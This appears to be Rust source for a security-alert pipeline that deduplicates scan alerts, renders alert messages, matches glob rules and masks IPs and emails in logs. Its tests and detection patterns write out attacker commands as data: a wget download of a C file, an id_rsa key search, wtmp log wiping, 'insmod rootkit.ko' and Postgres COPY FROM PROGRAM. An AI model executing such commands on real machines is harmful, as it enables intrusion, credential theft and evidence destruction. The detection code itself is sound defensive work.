            Entity::Address(src.parse().unwrap()),
        )
        .with_src(src.parse().unwrap())
    }

    #[test]
    fn first_scan_admitted_rest_suppressed() {
        let mut f = ScanFilter::default();
        assert!(f.admit(&scan_alert(0, "103.102.1.1")));
        for t in 1..100 {
            assert!(!f.admit(&scan_alert(t, "103.102.1.1")));
        }
        let s = f.stats();
        assert_eq!(s.seen, 100);
        assert_eq!(s.admitted, 1);
        assert_eq!(s.suppressed, 99);
        assert!(s.reduction() < 0.02);
    }

    #[test]
    fn distinct_sources_each_admitted() {
        let mut f = ScanFilter::default();
        for i in 0..50 {
            assert!(f.admit(&scan_alert(0, &format!("103.102.1.{i}"))));
        }
    }

    #[test]
    fn window_expiry_readmits() {
        let mut f = ScanFilter::new(FilterConfig {
            window: SimDuration::from_hours(1),
            ..Default::default()
        });
        assert!(f.admit(&scan_alert(0, "9.9.9.9")));
        assert!(!f.admit(&scan_alert(100, "9.9.9.9")));
        // Past the window: admitted again.
        assert!(f.admit(&scan_alert(3_601, "9.9.9.9")));
    }

    #[test]
    fn significant_alerts_never_suppressed() {
        let mut f = ScanFilter::default();
        for t in 0..10 {
            let a = Alert::new(
                SimTime::from_secs(t),
                AlertKind::DownloadSensitive,
                Entity::User("eve".into()),
            );
            assert!(f.admit(&a));
        }
        assert_eq!(f.stats().suppressed, 0);
    }

    #[test]
    fn attempts_deduped_when_configured() {
        let mut f = ScanFilter::default();
        let brute = |t: u64| {
            Alert::new(
                SimTime::from_secs(t),
                AlertKind::BruteForcePassword,
                Entity::Address("91.247.1.1".parse().unwrap()),
            )
        };
        assert!(f.admit(&brute(0)));
        assert!(!f.admit(&brute(1)));
        let mut f2 = ScanFilter::new(FilterConfig {
            dedup_attempts: false,
            ..Default::default()
        });
        assert!(f2.admit(&brute(0)));
        assert!(f2.admit(&brute(1)));
    }

    #[test]
    fn sweep_bounds_state() {
        let mut f = ScanFilter::new(FilterConfig {
            window: SimDuration::from_secs(10),
            ..Default::default()
        });
        for i in 0..1_000u64 {
            // Each source appears once, far apart in time.
            f.admit(&scan_alert(
                i * 40,
                &format!("10.{}.{}.1", i / 250, i % 250),
            ));
        }
        assert!(
            f.live_windows() < 16,
            "stale windows were not swept: {}",
            f.live_windows()
        );
    }

    /// Snapshot → import into a fresh process' filter → replay must
    /// suppress and admit exactly as the uninterrupted filter would,
    /// including windows keyed by user entities (whose raw ids embed
    /// interner symbol ids) and anonymous `src:` windows.
    #[test]
    fn snapshot_roundtrip_preserves_dedup_decisions() {
        let mut f = ScanFilter::default();
        // Address-keyed, user-keyed, and anonymous-source windows.
        assert!(f.admit(&scan_alert(10, "103.102.1.1")));
        let user_alert = |t: u64| {
            Alert::new(
                SimTime::from_secs(t),
                AlertKind::BruteForcePassword,
                Entity::User("eve".into()),
            )
        };
        let anon_alert = |t: u64| {
            Alert::new(SimTime::from_secs(t), AlertKind::PortScan, Entity::Unknown)
                .with_src("9.9.9.9".parse().unwrap())
        };
        assert!(f.admit(&user_alert(20)));
        assert!(f.admit(&anon_alert(30)));

        let snap = f.export_state();
        assert_eq!(snap.windows.len(), 3);
        assert!(snap.windows.iter().any(|w| w.source == "user:eve"));
        assert!(snap.windows.iter().any(|w| w.source == "src:9.9.9.9"));

        let mut restored = ScanFilter::default();
        restored.import_state(&snap);
        assert_eq!(restored.export_state(), snap, "import→export identity");
        // Same-window repeats stay suppressed after restore…
        assert!(!restored.admit(&scan_alert(40, "103.102.1.1")));
        assert!(!restored.admit(&user_alert(50)));
        assert!(!restored.admit(&anon_alert(60)));
        // …and mirror the uninterrupted filter exactly.
        assert!(!f.admit(&scan_alert(40, "103.102.1.1")));
        assert!(!f.admit(&user_alert(50)));
        assert!(!f.admit(&anon_alert(60)));
        assert_eq!(restored.stats(), f.stats());
        assert_eq!(restored.export_state(), f.export_state());
    }

    #[test]
    fn user_and_address_entities_keyed_separately() {
        let mut f = ScanFilter::default();
        let a1 = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PortScan,
            Entity::User("x".into()),
        );
        let a2 = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PortScan,
            Entity::Address("1.2.3.4".parse().unwrap()),
        );
        assert!(f.admit(&a1));
        assert!(f.admit(&a2));
    }
}
