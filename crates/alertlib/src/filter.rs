//! The repeated-alert filter.
//!
//! §II-A: *"we filter repeated alerts of periodic scans from the public
//! Internet to reduce the size of our dataset"* — from 25 M alerts down to
//! 191 K directly related to successful attacks. This module implements
//! that stage as a streaming, windowed deduplicator: for noise-severity
//! alerts, only the first occurrence per `(source, kind)` per window is
//! admitted; everything of higher severity passes through untouched.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

use crate::alert::{Alert, Entity};

/// Filter settings.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FilterConfig {
    /// Dedup window for noise alerts.
    pub window: SimDuration,
    /// How many alerts per `(source, kind)` to admit per window.
    pub admit_per_window: u32,
    /// Also deduplicate `Attempt`-severity alerts (brute-force floods).
    pub dedup_attempts: bool,
}

impl Default for FilterConfig {
    fn default() -> Self {
        FilterConfig {
            window: SimDuration::from_hours(24),
            admit_per_window: 1,
            dedup_attempts: true,
        }
    }
}

/// Streaming filter statistics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FilterStats {
    pub seen: u64,
    pub admitted: u64,
    pub suppressed: u64,
}

impl FilterStats {
    /// Fraction of alerts that survived the filter.
    pub fn reduction(&self) -> f64 {
        if self.seen == 0 {
            return 1.0;
        }
        self.admitted as f64 / self.seen as f64
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
struct Key {
    source: u64,
    kind: u16,
}

#[derive(Debug, Clone, Copy)]
struct Window {
    start: SimTime,
    admitted: u32,
}

/// The streaming scan filter. O(1) amortized per alert; state is bounded by
/// the number of active `(source, kind)` pairs per window (stale entries
/// are swept opportunistically).
#[derive(Debug)]
pub struct ScanFilter {
    cfg: FilterConfig,
    state: FxHashMap<Key, Window>,
    stats: FilterStats,
    last_sweep: SimTime,
}

impl Default for ScanFilter {
    fn default() -> Self {
        Self::new(FilterConfig::default())
    }
}

impl ScanFilter {
    pub fn new(cfg: FilterConfig) -> Self {
        ScanFilter {
            cfg,
            state: FxHashMap::default(),
            stats: FilterStats::default(),
            last_sweep: SimTime::EPOCH,
        }
    }

    /// The dedup source: the entity's integer id, except that unknown
    /// entities fall back to their source address so distinct anonymous
    /// sources keep distinct windows. No hashing, no allocation — the
    /// window map hashes the `u64` directly.
    fn source_key(entity: &Entity, src: Option<Ipv4Addr>) -> u64 {
        match (entity, src) {
            (Entity::Unknown, Some(a)) => (4u64 << 32) | u64::from(u32::from(a)),
            (e, _) => e.id().raw(),
        }
    }

    /// Whether this alert should pass the filter. Updates internal state.
    pub fn admit(&mut self, alert: &Alert) -> bool {
        self.stats.seen += 1;
        let dedup = alert.kind.is_noise()
            || (self.cfg.dedup_attempts && alert.severity() == crate::taxonomy::Severity::Attempt);
        if !dedup {
            self.stats.admitted += 1;
            return true;
        }
        self.maybe_sweep(alert.ts);
        let key = Key {
            source: Self::source_key(&alert.entity, alert.src),
            kind: alert.kind.index() as u16,
        };
        let w = self.state.entry(key).or_insert(Window {
            start: alert.ts,
            admitted: 0,
        });
        if alert.ts.saturating_since(w.start) > self.cfg.window {
            w.start = alert.ts;
            w.admitted = 0;
        }
        if w.admitted < self.cfg.admit_per_window {
            w.admitted += 1;
            self.stats.admitted += 1;
            true
        } else {
            self.stats.suppressed += 1;
            false
        }
    }

    /// Filter a batch, returning the admitted alerts.
    pub fn filter_batch(&mut self, alerts: impl IntoIterator<Item = Alert>) -> Vec<Alert> {
        alerts.into_iter().filter(|a| self.admit(a)).collect()
    }

    pub fn stats(&self) -> FilterStats {
        self.stats
    }

    /// Drop window entries more than two windows old. Called opportunistically
    /// so long streaming runs do not accumulate dead sources.
    fn maybe_sweep(&mut self, now: SimTime) {
        if now.saturating_since(self.last_sweep) < self.cfg.window {
            return;
        }
        self.last_sweep = now;
        let horizon = self.cfg.window + self.cfg.window;
        self.state
            .retain(|_, w| now.saturating_since(w.start) <= horizon);
    }

    /// Number of live `(source, kind)` windows (for tests/metrics).
    pub fn live_windows(&self) -> usize {
        self.state.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taxonomy::AlertKind;

    fn scan_alert(t: u64, src: &str) -> Alert {
        Alert::new(
            SimTime::from_secs(t),
            AlertKind::PortScan,
            Entity::Address(src.parse().unwrap()),
        )
        .with_src(src.parse().unwrap())
    }

    #[test]
    fn first_scan_admitted_rest_suppressed() {
        let mut f = ScanFilter::default();
        assert!(f.admit(&scan_alert(0, "103.102.1.1")));
        for t in 1..100 {
            assert!(!f.admit(&scan_alert(t, "103.102.1.1")));
        }
        let s = f.stats();
        assert_eq!(s.seen, 100);
        assert_eq!(s.admitted, 1);
        assert_eq!(s.suppressed, 99);
        assert!(s.reduction() < 0.02);
    }

    #[test]
    fn distinct_sources_each_admitted() {
        let mut f = ScanFilter::default();
        for i in 0..50 {
            assert!(f.admit(&scan_alert(0, &format!("103.102.1.{i}"))));
        }
    }

    #[test]
    fn window_expiry_readmits() {
        let mut f = ScanFilter::new(FilterConfig {
            window: SimDuration::from_hours(1),
            ..Default::default()
        });
        assert!(f.admit(&scan_alert(0, "9.9.9.9")));
        assert!(!f.admit(&scan_alert(100, "9.9.9.9")));
        // Past the window: admitted again.
        assert!(f.admit(&scan_alert(3_601, "9.9.9.9")));
    }

    #[test]
    fn significant_alerts_never_suppressed() {
        let mut f = ScanFilter::default();
        for t in 0..10 {
            let a = Alert::new(
                SimTime::from_secs(t),
                AlertKind::DownloadSensitive,
                Entity::User("eve".into()),
            );
            assert!(f.admit(&a));
        }
        assert_eq!(f.stats().suppressed, 0);
    }

    #[test]
    fn attempts_deduped_when_configured() {
        let mut f = ScanFilter::default();
        let brute = |t: u64| {
            Alert::new(
                SimTime::from_secs(t),
                AlertKind::BruteForcePassword,
                Entity::Address("91.247.1.1".parse().unwrap()),
            )
        };
        assert!(f.admit(&brute(0)));
        assert!(!f.admit(&brute(1)));
        let mut f2 = ScanFilter::new(FilterConfig {
            dedup_attempts: false,
            ..Default::default()
        });
        assert!(f2.admit(&brute(0)));
        assert!(f2.admit(&brute(1)));
    }

    #[test]
    fn sweep_bounds_state() {
        let mut f = ScanFilter::new(FilterConfig {
            window: SimDuration::from_secs(10),
            ..Default::default()
        });
        for i in 0..1_000u64 {
            // Each source appears once, far apart in time.
            f.admit(&scan_alert(
                i * 40,
                &format!("10.{}.{}.1", i / 250, i % 250),
            ));
        }
        assert!(
            f.live_windows() < 16,
            "stale windows were not swept: {}",
            f.live_windows()
        );
    }

    #[test]
    fn user_and_address_entities_keyed_separately() {
        let mut f = ScanFilter::default();
        let a1 = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PortScan,
            Entity::User("x".into()),
        );
        let a2 = Alert::new(
            SimTime::from_secs(0),
            AlertKind::PortScan,
            Entity::Address("1.2.3.4".parse().unwrap()),
        );
        assert!(f.admit(&a1));
        assert!(f.admit(&a2));
    }
}
