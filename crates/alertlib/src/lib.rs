//! # alertlib — alerts, symbolization, filtering, annotation
//!
//! The data-preparation layer of §II-A: raw log records (from `telemetry`)
//! become symbolized, sanitized [`alert::Alert`]s; repeated scan noise is
//! filtered (25 M → 191 K in the paper); alerts are annotated against
//! incident ground truth (99.7% automatically); and incidents are stored as
//! the longitudinal corpus the measurement study mines.
//!
//! - [`taxonomy`] — the `alert_*` symbol catalogue with severities and
//!   phases (exactly 19 critical kinds, per Insight 4).
//! - [`alert`] — the alert type and attack [`alert::Entity`].
//! - [`pattern`] — wildcard matching used by the rules.
//! - [`symbolize`] — the record→alert rule engine.
//! - [`sanitize`] — PII scrubbing (paper's `xxx.yyy` address masking).
//! - [`filter`] — streaming repeated-scan filter.
//! - [`annotate`] — auto + expert annotation against ground truth.
//! - [`store`] — incidents and the longitudinal corpus.

pub mod alert;
pub mod annotate;
pub mod filter;
pub mod message;
pub mod pattern;
pub mod sanitize;
pub mod store;
pub mod symbolize;
pub mod taxonomy;

/// The shared string-interning layer the record and alert types build on
/// (implemented in [`simnet::intern`]; re-exported here as the pipeline's
/// canonical import path).
pub use simnet::intern;

pub use alert::{Alert, Entity, EntityId};
pub use annotate::{Annotation, AnnotationReport, Annotator, GroundTruth, Label, Method};
pub use filter::{FilterConfig, FilterStats, ScanFilter};
pub use intern::Sym;
pub use message::MessageSpec;
pub use sanitize::{contains_pii, sanitize, SanitizeConfig};
pub use store::{Incident, IncidentId, IncidentStore};
pub use symbolize::{Symbolizer, SymbolizerConfig};
pub use taxonomy::{AlertKind, Phase, Severity};
