//! Lazily rendered alert messages.
//!
//! The symbolizer used to eagerly `format!` + sanitize a `String` for every
//! alert it emitted — per-record heap traffic that dominated the pipeline
//! hot path, even though the overwhelming majority of alerts are filtered,
//! counted, or retained without their message ever being read. A
//! [`MessageSpec`] is the structured replacement: a small `Copy` value
//! capturing *what* the message says (interned symbols plus scalar
//! metadata); the human-readable string is materialized only when an alert
//! is actually surfaced — in a notification, a store/report, or a
//! `Display` site — via [`MessageSpec::render`].
//!
//! Sanitization (§II-A) happens at render time: [`MessageSpec::render`]
//! applies [`SanitizeConfig::default`], and [`MessageSpec::render_with`]
//! takes an explicit config for deployments that tune scrubbing.
//!
//! Symbols in a spec are resolved at render time too, against an explicit
//! [`SymScope`]: [`MessageSpec::render_in`]/[`render_with_in`]
//! (MessageSpec::render_with_in) render a spec whose symbols were minted
//! in a tenant scope; the scope-less [`MessageSpec::render`]/`Display`
//! path resolves against the global scope, as before.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::flow::{ConnState, Proto};
use simnet::intern::{Sym, SymScope, SymTable};

use crate::sanitize::{sanitize, SanitizeConfig};

/// A structured, allocation-free alert message, rendered on demand.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum MessageSpec {
    /// No message.
    #[default]
    Empty,
    /// A fixed literal ("irc connection", "tor relay connection", ...).
    Static(&'static str),
    /// Arbitrary pre-built text (interned); sanitized at render time.
    Text(Sym),
    /// `"{proto} probe {resp_h}:{resp_p} state={state}"`
    Probe {
        proto: Proto,
        resp_h: Ipv4Addr,
        resp_p: u16,
        state: ConnState,
    },
    /// `"beacon to known C2 {resp_h}:{resp_p}"`
    C2Beacon { resp_h: Ipv4Addr, resp_p: u16 },
    /// `"icmp payload volume {bytes}B"`
    IcmpVolume { bytes: u64 },
    /// `"dns query volume {bytes}B"`
    DnsVolume { bytes: u64 },
    /// `"outbound transfer {bytes}B"`
    OutboundVolume { bytes: u64 },
    /// `"{method} {host}{uri} ({status})"` — the Zeek http line.
    HttpLine {
        method: Sym,
        host: Sym,
        uri: Sym,
        status: u16,
    },
    /// `"failed ssh auth from {orig_h}"`
    SshFailed { orig_h: Ipv4Addr },
    /// `"ghost account {user} login"`
    GhostLogin { user: Sym },
    /// `"internal ssh {orig_h} -> {resp_h}"`
    InternalSsh { orig_h: Ipv4Addr, resp_h: Ipv4Addr },
    /// `"login at {hour:02}h"`
    LoginAtHour { hour: u32 },
    /// `"[{hostname}] {cmdline}"` — a host process execution.
    Exec { hostname: Sym, cmdline: Sym },
    /// `"{verb} {path}"` — file integrity events (`wipe`, `clear`,
    /// `modify`, `note`, `encrypt`, `cron`).
    FileOp { verb: &'static str, path: Sym },
    /// `"drop {path} by {process}"`
    FileDrop { path: Sym, process: Sym },
    /// `"db auth as default account {user}"`
    DbDefaultCred { user: Sym },
    /// `"db auth failed for {user}"`
    DbAuthFailed { user: Sym },
    /// `"largeobject ELF payload ({bytes}B) prefix={hex_prefix}"`
    ElfBlob { bytes: u64, hex_prefix: Sym },
    /// `"lo_export to {path}"`
    LoExport { path: Sym },
    /// `"COPY FROM PROGRAM '{program}'"`
    CopyFromProgram { program: Sym },
    /// `"[{hostname}] setuid(0) by {user}"`
    Setuid { hostname: Sym, user: Sym },
    /// `"[{hostname}] ptrace on monitor"`
    MonitorPtrace { hostname: Sym },
}

impl MessageSpec {
    /// Whether there is any message at all.
    pub fn is_empty(&self) -> bool {
        matches!(self, MessageSpec::Empty)
    }

    /// Write the *raw* (unsanitized) message into `out`, resolving
    /// symbols against `table`.
    fn write_raw(&self, table: &SymTable, out: &mut String) {
        use std::fmt::Write as _;
        let r = |s: Sym| table.resolve(s);
        match *self {
            MessageSpec::Empty => {}
            MessageSpec::Static(s) => out.push_str(s),
            MessageSpec::Text(s) => out.push_str(r(s)),
            MessageSpec::Probe {
                proto,
                resp_h,
                resp_p,
                state,
            } => {
                let _ = write!(out, "{proto} probe {resp_h}:{resp_p} state={state}");
            }
            MessageSpec::C2Beacon { resp_h, resp_p } => {
                let _ = write!(out, "beacon to known C2 {resp_h}:{resp_p}");
            }
            MessageSpec::IcmpVolume { bytes } => {
                let _ = write!(out, "icmp payload volume {bytes}B");
            }
            MessageSpec::DnsVolume { bytes } => {
                let _ = write!(out, "dns query volume {bytes}B");
            }
            MessageSpec::OutboundVolume { bytes } => {
                let _ = write!(out, "outbound transfer {bytes}B");
            }
            MessageSpec::HttpLine {
                method,
                host,
                uri,
                status,
            } => {
                let _ = write!(out, "{} {}{} ({status})", r(method), r(host), r(uri));
            }
            MessageSpec::SshFailed { orig_h } => {
                let _ = write!(out, "failed ssh auth from {orig_h}");
            }
            MessageSpec::GhostLogin { user } => {
                let _ = write!(out, "ghost account {} login", r(user));
            }
            MessageSpec::InternalSsh { orig_h, resp_h } => {
                let _ = write!(out, "internal ssh {orig_h} -> {resp_h}");
            }
            MessageSpec::LoginAtHour { hour } => {
                let _ = write!(out, "login at {hour:02}h");
            }
            MessageSpec::Exec { hostname, cmdline } => {
                let _ = write!(out, "[{}] {}", r(hostname), r(cmdline));
            }
            MessageSpec::FileOp { verb, path } => {
                let _ = write!(out, "{verb} {}", r(path));
            }
            MessageSpec::FileDrop { path, process } => {
                let _ = write!(out, "drop {} by {}", r(path), r(process));
            }
            MessageSpec::DbDefaultCred { user } => {
                let _ = write!(out, "db auth as default account {}", r(user));
            }
            MessageSpec::DbAuthFailed { user } => {
                let _ = write!(out, "db auth failed for {}", r(user));
            }
            MessageSpec::ElfBlob { bytes, hex_prefix } => {
                let _ = write!(
                    out,
                    "largeobject ELF payload ({bytes}B) prefix={}",
                    r(hex_prefix)
                );
            }
            MessageSpec::LoExport { path } => {
                let _ = write!(out, "lo_export to {}", r(path));
            }
            MessageSpec::CopyFromProgram { program } => {
                let _ = write!(out, "COPY FROM PROGRAM '{}'", r(program));
            }
            MessageSpec::Setuid { hostname, user } => {
                let _ = write!(out, "[{}] setuid(0) by {}", r(hostname), r(user));
            }
            MessageSpec::MonitorPtrace { hostname } => {
                let _ = write!(out, "[{}] ptrace on monitor", r(hostname));
            }
        }
    }

    /// Render and sanitize with an explicit config, resolving symbols
    /// against an explicit scope — required when the spec's symbols were
    /// minted in a tenant scope rather than the global one.
    pub fn render_with_in(&self, cfg: &SanitizeConfig, scope: &SymScope) -> String {
        let mut raw = String::new();
        self.write_raw(scope.table(), &mut raw);
        sanitize(cfg, &raw)
    }

    /// Render with [`SanitizeConfig::default`] in an explicit scope.
    pub fn render_in(&self, scope: &SymScope) -> String {
        self.render_with_in(&SanitizeConfig::default(), scope)
    }

    /// Render and sanitize with an explicit config (global scope).
    pub fn render_with(&self, cfg: &SanitizeConfig) -> String {
        let mut raw = String::new();
        self.write_raw(simnet::intern::global(), &mut raw);
        sanitize(cfg, &raw)
    }

    /// Render and sanitize with [`SanitizeConfig::default`] — the string
    /// the pre-interning pipeline eagerly attached to every alert.
    pub fn render(&self) -> String {
        self.render_with(&SanitizeConfig::default())
    }

    /// Convenience for assertions and call sites ported from the eager-
    /// string era: whether the rendered (sanitized) message contains `pat`.
    pub fn contains(&self, pat: &str) -> bool {
        self.render().contains(pat)
    }
}

impl fmt::Display for MessageSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

impl From<&str> for MessageSpec {
    fn from(s: &str) -> MessageSpec {
        if s.is_empty() {
            MessageSpec::Empty
        } else {
            MessageSpec::Text(s.into())
        }
    }
}

impl From<String> for MessageSpec {
    fn from(s: String) -> MessageSpec {
        s.as_str().into()
    }
}

impl From<Sym> for MessageSpec {
    fn from(s: Sym) -> MessageSpec {
        if s.is_empty() {
            MessageSpec::Empty
        } else {
            MessageSpec::Text(s)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_sanitizes_like_the_eager_path() {
        let m = MessageSpec::HttpLine {
            method: "GET".into(),
            host: "64.215.4.5".into(),
            uri: "/abs.c".into(),
            status: 200,
        };
        assert_eq!(m.render(), "GET 64.215.xxx.yyy/abs.c (200)");
        assert!(m.contains("64.215.xxx.yyy"));
        assert_eq!(m.to_string(), m.render());
    }

    #[test]
    fn empty_and_static_round_trip() {
        assert!(MessageSpec::Empty.is_empty());
        assert!(MessageSpec::from("").is_empty());
        assert_eq!(
            MessageSpec::Static("irc connection").render(),
            "irc connection"
        );
        assert_eq!(MessageSpec::from("plain text").render(), "plain text");
        assert_eq!(MessageSpec::default(), MessageSpec::Empty);
    }

    #[test]
    fn structured_variants_match_eager_formats() {
        let m = MessageSpec::Exec {
            hostname: "cn01".into(),
            cmdline: "wget http://64.215.4.5/abs.c".into(),
        };
        assert_eq!(m.render(), "[cn01] wget http://64.215.xxx.yyy/abs.c");
        let m = MessageSpec::OutboundVolume { bytes: 1024 };
        assert_eq!(m.render(), "outbound transfer 1024B");
        let m = MessageSpec::LoginAtHour { hour: 3 };
        assert_eq!(m.render(), "login at 03h");
    }

    #[test]
    fn render_with_honours_custom_config() {
        let m = MessageSpec::SshFailed {
            orig_h: "103.102.1.1".parse().unwrap(),
        };
        let unmasked = m.render_with(&SanitizeConfig {
            mask_ips: false,
            ..SanitizeConfig::default()
        });
        assert!(unmasked.contains("103.102.1.1"));
        assert!(m.render().contains("103.102.xxx.yyy"));
    }
}
