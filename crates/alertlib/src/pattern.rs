//! Minimal glob-style pattern matching.
//!
//! The symbolization rules match command lines and paths with `*`-wildcard
//! patterns (e.g. `wget *`, `*/.ssh/authorized_keys`). A hand-rolled
//! matcher keeps the hot alert path free of regex machinery; matching is
//! O(n·m) worst case with the classic two-pointer backtracking algorithm
//! and allocation-free.

use serde::{Deserialize, Serialize};

/// A compiled wildcard pattern. `*` matches any (possibly empty) substring;
/// every other byte matches itself, case-sensitively.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Pattern {
    raw: String,
}

impl Pattern {
    pub fn new(pattern: impl Into<String>) -> Pattern {
        Pattern {
            raw: pattern.into(),
        }
    }

    /// The raw pattern text.
    pub fn as_str(&self) -> &str {
        &self.raw
    }

    /// Whether the pattern matches the whole of `text`.
    pub fn matches(&self, text: &str) -> bool {
        glob_match(&self.raw, text)
    }
}

/// Match `pattern` (with `*` wildcards) against all of `text`.
pub fn glob_match(pattern: &str, text: &str) -> bool {
    let p = pattern.as_bytes();
    let t = text.as_bytes();
    let (mut pi, mut ti) = (0usize, 0usize);
    // Position of the last `*` seen and the text position it matched up to.
    let (mut star, mut mark) = (usize::MAX, 0usize);
    while ti < t.len() {
        if pi < p.len() && (p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == b'*' {
            star = pi;
            mark = ti;
            pi += 1;
        } else if star != usize::MAX {
            // Backtrack: let the last star consume one more byte.
            pi = star + 1;
            mark += 1;
            ti = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == b'*' {
        pi += 1;
    }
    pi == p.len()
}

/// Whether `text` matches any of the given patterns.
pub fn matches_any(patterns: &[Pattern], text: &str) -> bool {
    patterns.iter().any(|p| p.matches(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_match() {
        assert!(glob_match("wget", "wget"));
        assert!(!glob_match("wget", "wgetx"));
        assert!(!glob_match("wget", "wge"));
    }

    #[test]
    fn star_prefix_suffix_middle() {
        assert!(glob_match("wget *", "wget http://64.215.1.1/abs.c"));
        assert!(glob_match("*id_rsa*", "find / -name id_rsa -maxdepth 2"));
        assert!(glob_match("*.c", "/tmp/abs.c"));
        assert!(glob_match("echo 0>*", "echo 0>/var/log/wtmp"));
        assert!(!glob_match("wget *", "curl http://x"));
    }

    #[test]
    fn multiple_stars_backtrack() {
        assert!(glob_match("*a*b*c*", "xxaxxbxxcxx"));
        assert!(!glob_match("*a*b*c*", "xxaxxcxxbxx"));
        assert!(glob_match("a**b", "ab"));
        assert!(glob_match("**", ""));
    }

    #[test]
    fn empty_cases() {
        assert!(glob_match("", ""));
        assert!(!glob_match("", "x"));
        assert!(glob_match("*", ""));
        assert!(glob_match("*", "anything"));
    }

    #[test]
    fn adversarial_backtracking_terminates() {
        // The classic pathological case for naive recursive matchers.
        let text = "a".repeat(200);
        let pattern = format!("{}b", "*a".repeat(50));
        assert!(!glob_match(&pattern, &text));
    }

    #[test]
    fn pattern_wrapper() {
        let p = Pattern::new("insmod *");
        assert!(p.matches("insmod rootkit.ko"));
        assert_eq!(p.as_str(), "insmod *");
        assert!(matches_any(
            &[Pattern::new("a*"), Pattern::new("b*")],
            "beta"
        ));
        assert!(!matches_any(&[Pattern::new("a*")], "beta"));
    }
}
