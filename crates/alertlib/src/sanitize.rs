//! Log sanitization.
//!
//! §II-A: "Specific information (e.g., personal information or filename)
//! is sanitized while the log timestamp is kept." The paper prints
//! addresses as `64.215.xxx.yyy` — first two octets kept, the rest masked.
//! This module scrubs alert messages: IP addresses, email addresses, long
//! digit runs (IDs, SSNs, card numbers) and home-directory user names.

use serde::{Deserialize, Serialize};

/// What to scrub. All on by default.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SanitizeConfig {
    /// Mask the last two octets of IPv4 addresses (`a.b.xxx.yyy`).
    pub mask_ips: bool,
    /// Replace email addresses with `<email>`.
    pub mask_emails: bool,
    /// Replace digit runs of at least this length with `<num>`; 0 disables.
    pub mask_digit_runs: usize,
    /// Replace `/home/<name>` path components with `/home/<user>`.
    pub mask_home_dirs: bool,
}

impl Default for SanitizeConfig {
    fn default() -> Self {
        SanitizeConfig {
            mask_ips: true,
            mask_emails: true,
            mask_digit_runs: 6,
            mask_home_dirs: true,
        }
    }
}

/// Sanitize one message according to the config.
pub fn sanitize(cfg: &SanitizeConfig, input: &str) -> String {
    let mut s = input.to_string();
    if cfg.mask_ips {
        s = mask_ipv4(&s);
    }
    if cfg.mask_emails {
        s = mask_emails(&s);
    }
    if cfg.mask_digit_runs > 0 {
        s = mask_digit_runs(&s, cfg.mask_digit_runs);
    }
    if cfg.mask_home_dirs {
        s = mask_home_dirs(&s);
    }
    s
}

/// Detect whether a string still contains an email or a long digit run —
/// used by the PII-in-outbound-HTTP rule (a Critical alert in the paper).
pub fn contains_pii(input: &str) -> bool {
    find_email(input.as_bytes(), 0).is_some() || has_digit_run(input, 9)
}

fn is_octet(bytes: &[u8]) -> Option<(usize, u16)> {
    let mut val: u16 = 0;
    let mut len = 0;
    for &b in bytes.iter().take(3) {
        if b.is_ascii_digit() {
            val = val * 10 + (b - b'0') as u16;
            len += 1;
        } else {
            break;
        }
    }
    if len == 0 || val > 255 {
        None
    } else {
        Some((len, val))
    }
}

/// Mask `a.b.c.d` → `a.b.xxx.yyy` (paper format).
fn mask_ipv4(input: &str) -> String {
    let bytes = input.as_bytes();
    let mut out = String::with_capacity(input.len());
    let mut i = 0;
    'outer: while i < bytes.len() {
        // Try to parse an IPv4 literal starting at i, not preceded by a
        // digit or dot (so we do not match inside longer tokens).
        let boundary_ok = i == 0 || (!bytes[i - 1].is_ascii_digit() && bytes[i - 1] != b'.');
        if boundary_ok && bytes[i].is_ascii_digit() {
            let mut pos = i;
            let mut octets = 0;
            let mut first_two_end = 0;
            while octets < 4 {
                match is_octet(&bytes[pos..]) {
                    Some((len, _)) => {
                        pos += len;
                        octets += 1;
                        if octets == 2 {
                            first_two_end = pos;
                        }
                        if octets < 4 {
                            if pos < bytes.len() && bytes[pos] == b'.' {
                                pos += 1;
                            } else {
                                break;
                            }
                        }
                    }
                    None => break,
                }
            }
            let tail_ok =
                pos >= bytes.len() || (!bytes[pos].is_ascii_digit() && bytes[pos] != b'.');
            if octets == 4 && tail_ok {
                out.push_str(&input[i..first_two_end]);
                out.push_str(".xxx.yyy");
                i = pos;
                continue 'outer;
            }
        }
        out.push(bytes[i] as char);
        i += 1;
    }
    out
}

/// Find the byte range of an email address at or after `from`.
fn find_email(bytes: &[u8], from: usize) -> Option<(usize, usize)> {
    let is_local =
        |b: u8| b.is_ascii_alphanumeric() || b == b'.' || b == b'_' || b == b'-' || b == b'+';
    let is_domain = |b: u8| b.is_ascii_alphanumeric() || b == b'.' || b == b'-';
    let mut i = from;
    while i < bytes.len() {
        if bytes[i] == b'@' {
            // Expand left over local-part chars.
            let mut start = i;
            while start > 0 && is_local(bytes[start - 1]) {
                start -= 1;
            }
            // Expand right over domain chars; require a dot in the domain.
            let mut end = i + 1;
            while end < bytes.len() && is_domain(bytes[end]) {
                end += 1;
            }
            let has_dot = bytes[i + 1..end].contains(&b'.');
            if start < i && end > i + 1 && has_dot {
                return Some((start, end));
            }
        }
        i += 1;
    }
    None
}

fn mask_emails(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let bytes = input.as_bytes();
    let mut i = 0;
    while let Some((s, e)) = find_email(bytes, i) {
        out.push_str(&input[i..s]);
        out.push_str("<email>");
        i = e;
    }
    out.push_str(&input[i..]);
    out
}

